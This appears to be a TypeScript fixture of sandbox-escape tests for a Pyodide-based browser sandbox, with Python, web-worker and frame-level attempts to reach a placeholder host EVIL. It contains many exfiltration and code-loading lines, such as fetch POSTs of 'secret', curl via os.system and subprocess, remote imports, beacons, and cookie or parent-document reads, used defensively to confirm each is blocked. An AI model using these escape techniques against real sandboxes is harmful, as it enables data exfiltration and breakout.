/**
 * @file Ways out that a guest might try. The first set is Python's: what a program can do that is run as any other. The other two assume
 * that it got further than any program has: to a worker of the sandbox page with all its globals, and to that page itself.
 *
 * `EVIL` and `OWN` stand for the canary's host and for the page's. Every attempt answers with what stopped it, or with `REACHED`.
 */

/** One program, so that one interpreter lives through it all; `attempts()` gives each attempt's name and end. */
export const PYTHON_ESCAPES = `
import time

def through_javascript(code):
    from pyodide.ffi import to_js
    return to_js([1]).constructor.constructor(code)()

def attempts():
    return {name: outcome(attempt) for name, attempt in globals().items() if name.startswith('try_')}

def outcome(attempt):
    try:
        result = attempt()
        time.sleep(0.05)
        return 'no error: ' + str(result)[:100]
    except BaseException as error:
        return type(error).__name__ + ': ' + str(error)[:100]

def try_js_fetch():
    import js
    return js.fetch('http://EVIL/js')

def try_run_js():
    from pyodide.code import run_js
    return run_js("fetch('http://EVIL/run_js')")

def try_function_constructor():
    return through_javascript("return fetch('http://EVIL/constructor')")

def try_function_constructor_own_origin():
    return through_javascript("return fetch('http://OWN/api')")

def try_function_constructor_import():
    return through_javascript("return import('http://EVIL/import.js')")

def try_function_constructor_socket():
    return through_javascript("return new WebSocket('ws://EVIL/socket')")

def try_function_constructor_post():
    return through_javascript("return self.postMessage('forged')")

def try_async_function_constructor():
    import pyodide_js
    return pyodide_js.runPythonAsync.constructor("return fetch('http://EVIL/async')")()

def try_pyfetch():
    from pyodide.http import pyfetch
    return pyfetch('http://EVIL/pyfetch').send(None)

def try_open_url():
    from pyodide.http import open_url
    return open_url('http://EVIL/open_url')

def try_load_binary_file():
    import pyodide_js
    return pyodide_js._api.loadBinaryFile('http://EVIL/load')

def try_load_package():
    import pyodide_js
    return pyodide_js.loadPackage('http://EVIL/package-1.0-py3-none-any.whl')

def try_urllib():
    import urllib.request
    return urllib.request.urlopen('http://EVIL/urllib', timeout=0.2)

def try_socket():
    import socket
    host, port = 'EVIL'.split(':')
    return socket.create_connection((host, int(port)), 0.2)

def try_socket_of_emscripten():
    import pyodide_js
    return pyodide_js._module.SOCKFS.websocketArgs

def try_system():
    import os
    return os.system('curl http://EVIL/system')

def try_subprocess():
    import subprocess
    return subprocess.run(['curl', 'http://EVIL/subprocess'])

def try_web_browser():
    import webbrowser
    return webbrowser.open('http://EVIL/browser')
`

/** Runs in a bare blob worker of the sandbox page: nothing tidied away, code from strings of no need. Posts each attempt's name and end. */
export const WORKER_ESCAPES = `
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms, 'no answer'))
const event = (target, ...names) => new Promise((resolve, reject) => {
  target.addEventListener(names[0], () => resolve('REACHED'))
  target.addEventListener('error', () => reject(new Error('refused')))
})
const blob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
const answer = (worker) => new Promise((resolve, reject) => {
  worker.onmessage = ({ data }) => resolve(data)
  worker.onerror = () => reject(new Error('refused'))
})
const attempts = {
  'fetch': () => fetch('http://EVIL/fetch').then(() => 'REACHED'),
  'fetch without cors': () => fetch('http://EVIL/no-cors', { mode: 'no-cors' }).then(() => 'REACHED'),
  'fetch with body': () => fetch('http://EVIL/post', { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true }).then(() => 'REACHED'),
  'fetch own api': () => fetch('http://OWN/api').then(() => 'REACHED'),
  'fetch own page': () => fetch('http://OWN/').then(() => 'REACHED'),
  'XMLHttpRequest': () => { const request = new XMLHttpRequest(); request.open('GET', 'http://EVIL/xhr'); request.send(); return event(request, 'load') },
  'WebSocket': () => event(new WebSocket('ws://EVIL/socket'), 'open'),
  'EventSource': () => event(new EventSource('http://EVIL/events'), 'open'),
  'WebTransport': () => new WebTransport('https://EVIL/transport').ready.then(() => 'REACHED'),
  'import': () => import('http://EVIL/import.js').then(() => 'REACHED'),
  'import own': () => import('http://OWN/assets/none.js').then(() => 'REACHED'),
  'import data': () => import('data:text/javascript,globalThis.x=1').then(() => 'REACHED'),
  'importScripts': () => { importScripts('http://EVIL/scripts.js'); return 'REACHED' },
  'eval': () => (0, eval)("'REACHED'"),
  'Function': () => new Function("return 'REACHED'")(),
  'timer with code': () => { setTimeout("globalThis.timed = 1", 0); return later(50).then(() => globalThis.timed ? 'REACHED' : 'refused') },
  'worker of another host': () => answer(new Worker('http://EVIL/worker.js')),
  'worker within': () => answer(new Worker(blob("fetch('http://EVIL/nested').then(() => postMessage('REACHED'), (error) => postMessage(error.name))"))),
  'WebAssembly streaming': () => WebAssembly.compileStreaming(fetch('http://EVIL/wasm')).then(() => 'REACHED'),
  'sendBeacon': () => navigator.sendBeacon('http://EVIL/beacon') && 'REACHED',
  'RTCPeerConnection': () => new RTCPeerConnection() && 'REACHED',
  'private files': () => navigator.storage.getDirectory().then(() => 'REACHED'),
  'indexedDB': () => new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('REACHED'); open.onerror = () => reject(open.error) }),
  'caches': () => caches.open('x').then(() => 'REACHED'),
  'localStorage': () => localStorage && 'REACHED',
  'cookies': () => cookieStore.getAll().then(() => 'REACHED'),
  'gpu': () => navigator.gpu.requestAdapter().then((adapter) => adapter ? 'REACHED' : 'no adapter'),
  'locks': () => navigator.locks.request('cascade-training', () => 'REACHED'),
  'service worker': () => navigator.serviceWorker.register('/x.js').then(() => 'REACHED'),
  'shared memory': () => new SharedArrayBuffer(8) && 'REACHED',
  'window': () => window && 'REACHED',
  'parent': () => parent && 'REACHED',
  'location': () => { location.href = 'http://EVIL/location'; return 'no error' },
  'open': () => open('http://EVIL/open') && 'REACHED',
}
const end = async (attempt) => {
  try {
    return String(await Promise.race([attempt(), later(1500)]))
  } catch (error) {
    return error.name + ': ' + error.message
  }
}
Promise.all(Object.entries(attempts).map(async ([name, attempt]) => [name, await end(attempt)])).then((ends) => postMessage(Object.fromEntries(ends)))
`

/** Runs in the sandbox page itself, where no guest ever does. */
export const FRAME_ESCAPES: Record<string, string> = {
  fetch: "fetch('http://EVIL/frame-fetch').then(() => 'REACHED')",
  beacon: "navigator.sendBeacon('http://EVIL/frame-beacon') ? 'queued' : 'refused'",
  image:
    "new Promise((resolve) => { const image = new Image(); image.onload = () => resolve('REACHED'); image.onerror = () => resolve('refused'); image.src = 'http://EVIL/image' })",
  style:
    "(() => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'http://EVIL/style'; document.head.append(link) })()",
  'style with image':
    "(() => { const style = document.createElement('style'); style.textContent = 'body{background:url(http://EVIL/background)}'; document.head.append(style); document.body.append('x') })()",
  script:
    "(() => { const script = document.createElement('script'); script.src = 'http://EVIL/script.js'; document.head.append(script) })()",
  prefetch:
    "(() => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = 'http://EVIL/prefetch'; document.head.append(link) })()",
  object: "(() => { const object = document.createElement('object'); object.data = 'http://EVIL/object'; document.body.append(object) })()",
  form: "(() => { const form = document.createElement('form'); form.action = 'http://EVIL/form'; form.method = 'post'; document.body.append(form); form.submit() })()",
  'form to a new window':
    "(() => { const form = document.createElement('form'); form.action = 'http://EVIL/form'; form.target = '_blank'; document.body.append(form); form.submit() })()",
  'new window': "open('http://EVIL/window') ? 'REACHED' : 'refused'",
  'parent document': "parent.document.title + 'REACHED'",
  'parent variable': "parent.lab + 'REACHED'",
  'page document': "top.document.title + 'REACHED'",
  'page variable': "top.lab + 'REACHED'",
  'parent location': "(() => { parent.location.href = 'http://EVIL/parent' })()",
  'top location': "(() => { top.location.href = 'http://EVIL/top' })()",
  'its storage': "localStorage.length + 'REACHED'",
  'its cookie': "document.cookie + 'REACHED'",
  // The last: its link leads away from the frame's text, which the policy refuses, and the frame is lost.
  ping: "(() => { const link = document.createElement('a'); link.href = '#x'; link.ping = 'http://EVIL/ping'; document.body.append(link); link.click() })()",
}
